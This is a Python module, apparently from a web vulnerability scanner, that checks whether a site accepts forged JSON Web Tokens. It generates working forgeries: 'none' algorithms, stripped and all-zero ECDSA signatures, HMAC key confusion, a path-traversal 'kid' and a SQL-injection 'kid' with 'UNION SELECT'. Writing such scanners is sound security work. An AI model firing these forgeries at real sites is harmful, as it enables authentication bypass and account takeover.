"""Is a forged token taken? Held against the real one, none at all, and one whose signature is wrong."""

from collections.abc import Iterator, Sequence

from msgspec import Struct

from s2n.model import Exchange, Request
from s2n.s2nscanner.oracles.jwt import Jwt, swapped
from s2n.s2nscanner.oracles.probe import Fresh, Sender
from s2n.s2nscanner.oracles.stability import Stable, learned

NONE = ("none", "None", "NONE", "nOnE")
"""Spellings: some verifiers only refuse the first."""

EMPTY_FILE = "../../../../../../../../dev/null"


class Forgery(Struct, frozen=True):
    """A way to forge. ``kind`` names the fault in one word, ``how`` completes "a token …"."""

    kind: str
    how: str
    text: str


class Taken(Struct, frozen=True):
    """A forged token that was taken, and the control that was not."""

    forgery: Forgery
    exchange: Exchange
    control: Exchange


class Gate(Struct, frozen=True):
    """A request for which the token makes a difference. ``sent`` carries it."""

    sender: Sender
    sent: Request
    token: Jwt
    accepted: Stable
    wrong: str
    """What is refused here: the same token with a wrong signature, or, where that is taken, no token."""

    async def takes(self, text: str) -> Exchange | None:
        """The exchange with ``text`` in the token's place, if it is accepted."""
        exchange = await self.sender.send(swapped(self.sent, self.token.text, text), exact=True)
        return exchange if self.accepted.same(exchange) else None

    async def taken(self, forgery: Forgery) -> Taken | None:
        """``forgery`` is taken, and the control still is not."""
        exchange = await self.takes(forgery.text)
        if exchange is None:
            return None
        control = await self.sender.send(swapped(self.sent, self.token.text, self.wrong), exact=True)
        return None if self.accepted.same(control) else Taken(forgery, exchange, control)


async def gate(sender: Sender, sent: Request, token: Jwt) -> Gate | None:
    """The gate at ``sent``, or None: no stable answer, or the same one without the token.

    Sends three to five requests.
    """
    first = await sender.send(sent, exact=True)
    if first.response.status >= 400:
        return None
    without = await sender.send(swapped(sent, token.text, ""), exact=True)
    if without.response.status == 429 or learned([first]) is None:
        return None
    accepted = learned([first, await sender.send(sent, exact=True)])
    if accepted is None or accepted.same(without):
        return None
    wrong = token.with_wrong_signature()
    found = Gate(sender, sent, token, accepted, wrong)
    if await found.takes(wrong) is None:
        return found
    # Any signature is taken. Is the token read at all? One that is no token must be refused.
    broken = ".".join(piece[::-1] for piece in token.text.split("."))
    if await found.takes(broken) is not None:
        return None
    return Gate(sender, sent, token, accepted, broken)


async def forged(gate: Gate, keys: Sequence[bytes], fresh: Fresh) -> list[Taken]:
    """Forgeries that are taken, one of each kind; where no signature is checked, only that."""
    token = gate.token
    if gate.wrong != token.with_wrong_signature():
        unsigned = Forgery("signature", "whose signature is wrong", token.with_wrong_signature())
        taken = await gate.taken(unsigned)
        return [] if taken is None else [taken]
    out: list[Taken] = []
    for forgery in forgeries(token, keys, fresh):
        if any(taken.forgery.kind == forgery.kind for taken in out):
            continue
        taken = await gate.taken(forgery)
        if taken is not None:
            out.append(taken)
    return out


def forgeries(token: Jwt, keys: Sequence[bytes], fresh: Fresh) -> Iterator[Forgery]:
    """Ways to forge ``token`` without its key. ``keys``: the site's public keys, as HMAC keys."""
    header = token.header
    for spelling in NONE:
        yield Forgery(
            "none", f"with the algorithm {spelling!r}", token.resigned(header | {"alg": spelling}, None)
        )
    yield Forgery("stripped", "without a signature", token.with_signature(""))
    if token.algorithm.startswith("ES"):
        size = {"ES384": 96, "ES512": 132}.get(token.algorithm, 64)
        zeros = token.with_signature("A" * -(-size * 4 // 3))
        yield Forgery("blank", "whose signature is all zeros (CVE-2022-21449)", zeros)
    if not token.algorithm.startswith("HS"):
        for key in keys:
            text = token.resigned(header | {"alg": "HS256"}, key)
            yield Forgery("confusion", "signed by HMAC with the public key as the secret", text)
    if "kid" in header:
        algorithm = token.algorithm if token.algorithm.startswith("HS") else "HS256"
        text = token.resigned(header | {"alg": algorithm, "kid": EMPTY_FILE}, b"")
        yield Forgery("kid-path", f"whose kid is the path of an empty file, {EMPTY_FILE!r}", text)
        secret = fresh.token(12)
        for quote in "'\"":
            kid = f"{fresh.token(6)}{quote} UNION SELECT '{secret}'-- -"
            text = token.resigned(header | {"alg": algorithm, "kid": kid}, secret.encode())
            yield Forgery("kid-sql", f"whose kid makes the database answer with a key of ours, {kid!r}", text)
